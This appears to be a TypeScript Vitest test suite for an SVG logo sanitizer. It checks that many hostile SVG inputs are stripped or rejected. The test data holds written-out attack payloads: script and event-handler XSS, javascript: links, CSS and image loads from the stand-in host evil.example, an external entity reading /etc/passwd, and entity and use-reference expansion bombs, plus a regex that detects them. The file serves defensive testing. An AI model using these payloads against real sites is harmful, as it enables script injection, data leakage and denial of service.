import { describe, expect, it } from 'vitest';
import { parseSvg, SVG_LIMITS } from './parse-svg.ts';
import { sanitizeSvg } from './sanitize-svg.ts';

const wrap = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}><path d="M0 0h9v9z"/>${inner}</svg>`;

/** What no saved logo may hold, whatever came in. */
const DANGER =
  /script|\son\w+\s*=|foreignobject|javascript|data:|http(?!:\/\/www\.w3\.org\/2000\/svg")|@|\\|<!|<\?|<(?:a|animate|set|image|iframe|embed|object|audio|video|feimage|filter|handler|html|body|link|meta)\b|url\((?!#[\w.-]+\))|href="(?!#[\w.-]+")|:\/\/(?!www\.w3\.org\/2000\/svg")|expression|evil/i;

const sanitized: [name: string, source: string][] = [
  ['a script', wrap('<script>alert(1)</script>')],
  ['a script from elsewhere', wrap('<script href="https://evil.example/x.js"/>')],
  ['a script in capital letters', wrap('<SCRIPT>alert(1)</SCRIPT>')],
  ['a script in CDATA', wrap('<script><![CDATA[alert(1)]]></script>')],
  [
    'a script with a prefix',
    wrap('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  ],
  ['onload at the root', wrap('', ' onload="alert(1)"')],
  ['an event attribute in mixed case', wrap('<g oNcLiCk="alert(1)"/>')],
  ['an event attribute after a line break', wrap('<g\nonmouseover\n=\n"alert(1)"/>')],
  ['an event attribute of animations', wrap('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  [
    'foreignObject',
    wrap(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
  ],
  [
    'an iframe in another namespace',
    wrap('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
  ],
  ['a link', wrap('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>')],
  [
    'a link written in entities',
    wrap('<a xlink:href="&#106;avascript:alert(1)"><rect width="9" height="9"/></a>'),
  ],
  ['a picture from elsewhere', wrap('<image href="https://evil.example/pixel.png" width="1" height="1"/>')],
  [
    'a picture as data',
    wrap('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>'),
  ],
  ['use of another document', wrap('<use href="https://evil.example/x.svg#a"/>')],
  ['use of data', wrap('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  ['use without a scheme', wrap('<use href="//evil.example/x.svg#a"/>')],
  ['a fill from elsewhere', wrap('<rect width="1" height="1" fill="url(https://evil.example/x.svg#a)"/>')],
  [
    'a fill from elsewhere with space',
    wrap('<rect width="1" height="1" fill="URL ( \'//evil.example/a\' )"/>'),
  ],
  ['a fill behind a good one', wrap('<rect width="1" height="1" fill="url(#a) url(//evil.example)"/>')],
  ['a style that imports', wrap('<style>@import url(https://evil.example/a.css); .a{fill:red}</style>')],
  [
    'a style that imports with escapes',
    wrap('<style>@\\69mport "//evil.example"; .a{fill:u\\72l(//evil.example)}</style>'),
  ],
  [
    'a style that loads',
    wrap('<style>.a{fill:url("https://evil.example/a")} .b{background:url(//evil.example)}</style>'),
  ],
  [
    'a style that loads a font',
    wrap('<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}</style>'),
  ],
  ['a style that reads attributes', wrap('<style>path[d^="M"]{fill:url(//evil.example/m)}</style>')],
  [
    'a style that closes itself',
    wrap('<style>.a{fill:red}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  ],
  [
    'a style attribute that loads',
    wrap('<g style="fill:red;background-image:url(//evil.example);cursor:url(//evil.example)"/>'),
  ],
  ['a style attribute with a comment', wrap('<g style="fill:u/**/rl(//evil.example)"/>')],
  ['image-set', wrap('<g style="mask:image-set(\'//evil.example\' 1x)" mask="image(\'evil\')"/>')],
  ['an old expression', wrap('<g style="width:expression(alert(1))"/>')],
  [
    'set that changes a link',
    wrap('<use id="u" href="#u2"/><set href="#u" attributeName="href" to="javascript:alert(1)"/>'),
  ],
  ['animate that changes a link', wrap('<animate attributeName="xlink:href" values="javascript:alert(1)"/>')],
  [
    'a filter that loads',
    wrap('<filter id="f"><feImage href="https://evil.example/a.png"/></filter><g filter="url(#f)"/>'),
  ],
  ['a handler of SVG Tiny', wrap('<handler type="application/ecmascript">alert(1)</handler>')],
  [
    'a style sheet as instruction',
    `<?xml-stylesheet href="https://evil.example/a.xsl" type="text/xsl"?>${wrap('')}`,
  ],
  [
    'a document type from elsewhere',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${wrap('')}`,
  ],
  ['a comment that is none', wrap('<!--><script>alert(1)</script>-->')],
  [
    'text that is markup',
    wrap('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>').replaceAll('script', 'b'),
  ],
  [
    'a value that closes its quotes',
    wrap('<g id="a&quot; onload=&quot;alert(1)" fill="red&quot; onload=&quot;x"/>'),
  ],
  ['base and link', wrap('<base href="//evil.example/"/><link rel="stylesheet" href="//evil.example"/>')],
];

const rejected: [name: string, source: string][] = [
  ['entities', `<!DOCTYPE svg [<!ENTITY a "x">]>${wrap('<text>&a;</text>')}`],
  [
    'entities that grow',
    `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${wrap('<text>&b;</text>')}`,
  ],
  [
    'a file of the machine',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wrap('<text>&a;</text>')}`,
  ],
  ['an entity nobody defined', wrap('<text>&nbsp;</text>')],
  ['a declaration inside', wrap('<!ENTITY a "x">')],
  ['a page of HTML', '<html><body><script>alert(1)</script></body></html>'],
  ['a tag that does not close', wrap('<g>')],
  ['a value without quotes', wrap('<g fill=red/>')],
  ['two roots', `${wrap('')}${wrap('')}`],
  ['words around it', `hello ${wrap('')}`],
  ['an attribute twice', wrap('<g fill="red" fill="blue"/>')],
  ['too many bytes', wrap(`<desc>${'a'.repeat(SVG_LIMITS.maxBytes)}</desc>`)],
  ['too many elements', wrap('<g/>'.repeat(SVG_LIMITS.maxElements))],
  ['too deep', wrap('<g>'.repeat(SVG_LIMITS.maxDepth) + '</g>'.repeat(SVG_LIMITS.maxDepth))],
  ['use of itself', wrap('<g id="a"><use href="#a"/></g>')],
  [
    'use in a circle by a style',
    wrap('<style>.a{clip-path:url(#c)}</style><clipPath id="c"><path class="a" d="M0 0"/></clipPath>'),
  ],
  [
    'uses that grow',
    wrap(
      Array.from(
        { length: 20 },
        (_, n) => `<g id="g${n + 1}"><use href="#g${n}"/><use href="#g${n}"/></g>`,
      ).join(''),
    ),
  ],
  ['no size', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/></svg>'],
  ['a size without end', wrap('').replace('0 0 10 10', '0 0 1e300 1e300')],
  ['a strip', wrap('').replace('0 0 10 10', '0 0 1000 1')],
  ['nothing', ''],
];

describe('sanitizeSvg', () => {
  it.each(sanitized)('leaves nothing of %s, and the drawing stays', (_, source) => {
    const { svg } = sanitizeSvg(source);
    expect(svg).not.toMatch(DANGER);
    expect(svg).toContain('d="M0 0h9v9z"');
    // What was written is well-formed, and writing it again changes nothing.
    expect(parseSvg(svg).name).toBe('svg');
    expect(sanitizeSvg(svg).svg).toBe(svg);
  });

  it.each(rejected)('rejects %s', (_, source) => {
    expect(() => sanitizeSvg(source)).toThrow(/SVG/);
  });

  it('says what it removed, and is silent about notes of drawing programs', () => {
    const source = wrap(
      '<metadata><a/></metadata><sodipodi:namedview id="n"/><script>1</script><image href="x.png"/>',
      ' version="1.1" inkscape:label="a" onload="x"',
    );
    expect(sanitizeSvg(source).removed).toEqual(['image', 'onload', 'script']);
  });

  it('keeps what drawing programs write: styles, gradients, clips, symbols, text', () => {
    const { svg, removed } = sanitizeSvg(`<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0 -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
 width="200px" height="100px" style="enable-background:new 0 0 200 100;" xml:space="preserve">
<style type="text/css">.st0{fill:url(#grad);} .st1,.st2{fill:#FF9F1C;stroke:rgb(0, 10, 20)}</style>
<defs><linearGradient id="grad"><stop offset="0%" stop-color="#fff"/><stop offset="1" style="stop-color:#000"/></linearGradient>
<linearGradient id="grad2" xlink:href="#grad" gradientTransform="rotate(90)"/><clipPath id="c"><rect width="9" height="9"/></clipPath>
<symbol id="s" viewBox="0 0 1 1"><circle cx=".5" cy=".5" r=".5"/></symbol></defs>
<g clip-path="url('#c')" transform="translate(1,2) scale(-1)"><path class="st0 st1" d="M10-3.5e-2 1z"/><use xlink:href="#s"/></g>
<text font-family="'Times New Roman', serif">Fish <tspan>&amp;</tspan> chips</text></svg>`);
    expect(removed).toEqual([]);
    expect(svg).toMatch(
      /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" id="Layer_1" viewBox="0 0 200 100" width="512.00" height="256.00">/,
    );
    for (const part of [
      '<style>.st0{fill:url(#grad)}.st1,.st2{fill:#FF9F1C;stroke:rgb(0, 10, 20)}</style>',
      'href="#grad"',
      'clip-path="url(#c)"',
      'transform="translate(1,2) scale(-1)"',
      'class="st0 st1"',
      '<use href="#s">',
      'Fish <tspan>&#38;</tspan> chips',
      'style="stop-color:#000"',
    ])
      expect(svg).toContain(part);
  });
});
